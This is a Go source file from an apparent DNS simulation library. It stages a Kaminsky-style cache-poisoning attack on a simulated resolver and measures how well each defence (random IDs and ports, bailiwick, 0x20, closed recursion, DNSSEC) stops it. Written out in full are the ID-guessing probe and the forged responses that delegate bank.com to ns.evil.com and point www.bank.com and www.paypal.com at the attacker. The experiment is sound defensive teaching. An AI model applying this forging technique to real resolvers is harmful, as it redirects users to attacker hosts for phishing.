package dnsattack

import (
	"cmp"
	"fmt"
	"net/netip"
	"strings"
	"time"

	"github.com/networkutopia/p2p/dnsx"
	"github.com/networkutopia/p2p/dnsx/authserver"
	"github.com/networkutopia/p2p/dnsx/resolver"
	"github.com/networkutopia/p2p/transport"
	"github.com/networkutopia/p2p/transport/sim"
)

// PoisoningConfig configures [CachePoisoning]. Zero fields take the
// defaults.
type PoisoningConfig struct {
	Seed uint64
	// Rounds is the number of races the attacker runs. Default 200.
	Rounds int
	// Forged is the number of forged answers per race. Default 100.
	Forged int
}

// Validate reports the first invalid field, wrapping ErrBadConfig.
func (cfg PoisoningConfig) Validate() error {
	switch {
	case cfg.Rounds < 0:
		return fmt.Errorf("%w: PoisoningConfig.Rounds is negative", ErrBadConfig)
	case cfg.Forged < 0 || cfg.Forged > 65535:
		return fmt.Errorf("%w: PoisoningConfig.Forged must be in 0..65535", ErrBadConfig)
	}
	return nil
}

// Defences is one row of the poisoning experiment: which defences the
// resolver has.
type Defences struct {
	Name              string
	Insecure          resolver.InsecureOptions
	CaseRandomisation bool
	RefuseOpen        bool // refuse recursion to the attacker
	DNSSEC            bool // root, com and bank.com signed; the resolver validates
}

// PoisoningRow is the outcome for one set of defences.
type PoisoningRow struct {
	Defences
	// Won counts the races in which the resolver accepted a forged answer.
	Won int
	// Poisoned counts the distinct cached records holding the attacker's
	// data at the end (owner names outside the attacker's own zone).
	Poisoned int
	// VictimRedirected reports whether www.bank.com resolves to the
	// attacker at the end.
	VictimRedirected bool
	// Bogus counts the responses the validating resolver rejected (the
	// DNSSEC row): forged answers that matched a query but carried no
	// valid signature.
	Bogus uint64
}

// PoisoningResult is the outcome of [CachePoisoning].
type PoisoningResult struct {
	Rounds, Forged int
	Rows           []PoisoningRow
}

// String renders the result as a table.
func (r PoisoningResult) String() string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "%d races, %d forged answers each\n", r.Rounds, r.Forged)
	fmt.Fprintf(&sb, "%-44s %5s %9s %s\n", "defences", "won", "poisoned", "www.bank.com redirected")
	for _, row := range r.Rows {
		fmt.Fprintf(&sb, "%-44s %5d %9d %v\n", row.Name, row.Won, row.Poisoned, row.VictimRedirected)
	}
	return sb.String()
}

// PoisoningDefences are the rows of the experiment, from none to all.
var PoisoningDefences = []Defences{
	{Name: "none (sequential IDs, one port, no bailiwick)", Insecure: resolver.InsecureOptions{SequentialIDs: true, FixedPort: true, NoBailiwick: true}},
	{Name: "bailiwick and ranking only", Insecure: resolver.InsecureOptions{SequentialIDs: true, FixedPort: true}},
	{Name: "random IDs only", Insecure: resolver.InsecureOptions{FixedPort: true, NoBailiwick: true}},
	{Name: "random IDs and ports, bailiwick", Insecure: resolver.InsecureOptions{}},
	{Name: "all: + 0x20, no open recursion", CaseRandomisation: true, RefuseOpen: true},
	{Name: "DNSSEC only (sequential IDs, one port)", Insecure: resolver.InsecureOptions{SequentialIDs: true, FixedPort: true}, DNSSEC: true},
}

var (
	bankIP     = netip.MustParseAddr("203.0.113.10")
	attackerIP = netip.MustParseAddr("6.6.6.6")
)

// attacker is the attacker's node: the authoritative server of evil.com,
// which shows it the resolver's query IDs and ports, and a client of the
// resolver.
type attacker struct {
	env      transport.Env
	server   transport.Handler
	lastID   uint16
	lastFrom transport.Addr
	answers  map[uint16]string // its own queries' answers, by ID
}

func (a *attacker) Receive(c transport.Conn, m transport.Message) {
	b, ok := m.(transport.Bytes)
	if !ok || len(b) < 12 {
		return
	}
	if b[2]&0x80 == 0 { // a query from the resolver to evil.com's server
		a.lastID, a.lastFrom = uint16(b[0])<<8|uint16(b[1]), c.Peer
		a.server.Receive(c, m)
		return
	}
	resp, err := dnsx.Unpack(b)
	if err != nil {
		return
	}
	var vals []string
	for _, rr := range resp.Answer {
		vals = append(vals, rr.Value())
	}
	a.answers[resp.ID] = strings.Join(vals, ",")
}

// ask sends a recursive query to the resolver.
func (a *attacker) ask(to transport.Addr, id uint16, name string) {
	q := dnsx.NewQuery(id, name, dnsx.TypeA)
	q.RecursionDesired = true
	b, _ := q.Pack()
	a.env.Send(to, transport.Bytes(b)) //nolint:errcheck
}

// CachePoisoning runs a Kaminsky-style attack against a resolver, once per
// row of PoisoningDefences. In each race the attacker asks the resolver
// (as a client) for a fresh name rN.bank.com and at once sends forged
// answers that claim to come from bank.com's server: an answer for rN,
// bank.com's NS record pointing to the attacker's server, and addresses
// for www.bank.com and the attacker's name server. It learns the
// resolver's current query ID and port just before, by asking it for a
// name in its own zone evil.com, and guesses the next IDs; the forged
// answers travel faster than the real one. With sequential IDs and one
// port it wins at once; random IDs and ports leave it a chance of
// Forged/65536 per race with one port and none without (it cannot know
// the next random port; the simulator numbers endpoints in order, which
// the attacker does not exploit, as real ports are random), 0x20 adds
// about 2^-10 per letter, and refusing open recursion denies it the
// races.
func CachePoisoning(cfg PoisoningConfig) (PoisoningResult, error) {
	if err := cfg.Validate(); err != nil {
		return PoisoningResult{}, err
	}
	cfg.Rounds = cmp.Or(cfg.Rounds, 200)
	cfg.Forged = cmp.Or(cfg.Forged, 100)
	res := PoisoningResult{Rounds: cfg.Rounds, Forged: cfg.Forged}
	for _, d := range PoisoningDefences {
		row, err := poisonOnce(cfg, d)
		if err != nil {
			return res, err
		}
		res.Rows = append(res.Rows, row)
	}
	return res, nil
}

func poisonOnce(cfg PoisoningConfig, d Defences) (PoisoningRow, error) {
	row := PoisoningRow{Defences: d}
	w, err := newWorld(cfg.Seed, 20*time.Millisecond)
	if err != nil {
		return row, err
	}
	domains := map[string]netip.Addr{"bank.com.": bankIP, "evil.com.": attackerIP}
	root, com, bankZone := rootZone(), tldZone("com.", "a.gtld-servers.net.", domains, []string{"bank.com.", "evil.com."}), domainZone("bank.com.", bankIP, 0)
	var anchors []dnsx.RR
	if d.DNSSEC {
		var anchor dnsx.RR
		if root, com, bankZone, anchor, err = signedZones(root, com, bankZone, w.net.Now()); err != nil {
			return row, err
		}
		anchors = []dnsx.RR{anchor}
	}
	if _, _, err := w.addServer(rootIP, authserver.Config{Zones: []*dnsx.Zone{root}}, sim.Capacity{}); err != nil {
		return row, err
	}
	if _, _, err := w.addServer(comIP, authserver.Config{Zones: []*dnsx.Zone{com}}, sim.Capacity{}); err != nil {
		return row, err
	}
	bank, _, err := w.addServer(bankIP, authserver.Config{Zones: []*dnsx.Zone{bankZone}}, sim.Capacity{})
	if err != nil {
		return row, err
	}
	evil, err := authserver.NewServer(authserver.Config{Zones: []*dnsx.Zone{domainZone("evil.com.", attackerIP, 0)}})
	if err != nil {
		return row, err
	}
	attackerAddr := w.addNode(func(env transport.Env) transport.Handler {
		return &attacker{env: env, server: evil.NewHandler()(env), answers: map[uint16]string{}}
	}, sim.Capacity{})
	w.addrs[attackerIP] = attackerAddr
	rcfg := resolver.Config{Roots: []netip.Addr{rootIP}, Insecure: d.Insecure, CaseRandomisation: d.CaseRandomisation, TrustAnchors: anchors}
	rcfg.AllowClient = func(c transport.Addr) bool { return !d.RefuseOpen || c != attackerAddr }
	victim, err := w.addResolver(rcfg)
	if err != nil {
		return row, err
	}
	w.setLatency(attackerAddr, victim, time.Millisecond)

	// A user of the resolver visits the bank: bank.com's servers are
	// cached.
	w.resolve(victim, "www.bank.com", dnsx.TypeA, func(resolver.Answer, error) {})
	w.net.Run(time.Second)

	var att *attacker
	w.net.Do(attackerAddr, func(h transport.Handler) { att = h.(*attacker) }) //nolint:errcheck
	for i := range cfg.Rounds {
		// Learn the resolver's latest ID and port.
		w.net.Do(attackerAddr, func(transport.Handler) { att.ask(victim, uint16(2*i+1), fmt.Sprintf("probe%d.evil.com", i)) }) //nolint:errcheck
		w.net.Run(200 * time.Millisecond)
		guess, port := att.lastID, att.lastFrom
		port = cmp.Or(port, victim)
		// Race: ask for a fresh bank name and forge its answers.
		name := fmt.Sprintf("r%d.bank.com.", i)
		attackID := uint16(2*i + 2)
		w.net.Do(attackerAddr, func(transport.Handler) { att.ask(victim, attackID, name) }) //nolint:errcheck
		for j := range cfg.Forged {
			forged := &dnsx.Msg{
				ID: guess + 1 + uint16(j), Response: true, Authoritative: true,
				Question:   dnsx.Question{Name: name, Type: dnsx.TypeA, Class: dnsx.ClassINET},
				Answer:     []dnsx.RR{dnsx.MustRR(name, attackerIP.String(), dnsx.TypeA, 86400)},
				Authority:  []dnsx.RR{dnsx.MustRR("bank.com", "ns.evil.com", dnsx.TypeNS, 86400)},
				Additional: []dnsx.RR{dnsx.MustRR("www.bank.com", attackerIP.String(), dnsx.TypeA, 86400), dnsx.MustRR("www.paypal.com", attackerIP.String(), dnsx.TypeA, 86400)},
			}
			b, err := forged.Pack()
			if err != nil {
				return row, err
			}
			if err := w.net.Inject(bank, port, transport.Bytes(b)); err != nil {
				return row, err
			}
		}
		w.net.Run(2 * time.Second)
		if att.answers[attackID] == attackerIP.String() {
			row.Won++
		}
	}

	var cache *resolver.Cache
	w.net.Do(victim, func(h transport.Handler) { cache = h.(*resolver.Peer).Cache() }) //nolint:errcheck
	now := w.net.Now()
	seen := map[string]bool{}
	w.net.Do(victim, func(h transport.Handler) { row.Bogus = h.(*resolver.Peer).Stats().Bogus }) //nolint:errcheck
	cache.Range(now, func(rr dnsx.RR) bool {
		if dnsx.IsSubdomain(rr.Name, "evil.com.") || seen[rr.String()] {
			return true
		}
		seen[rr.String()] = true
		if rr.Value() == attackerIP.String() || rr.Value() == "ns.evil.com." {
			row.Poisoned++
		}
		return true
	})
	w.resolve(victim, "www.bank.com", dnsx.TypeA, func(a resolver.Answer, err error) {
		row.VictimRedirected = err == nil && len(a.Records) > 0 && a.Records[len(a.Records)-1].Value() == attackerIP.String()
	})
	w.net.Run(5 * time.Second)
	return row, nil
}
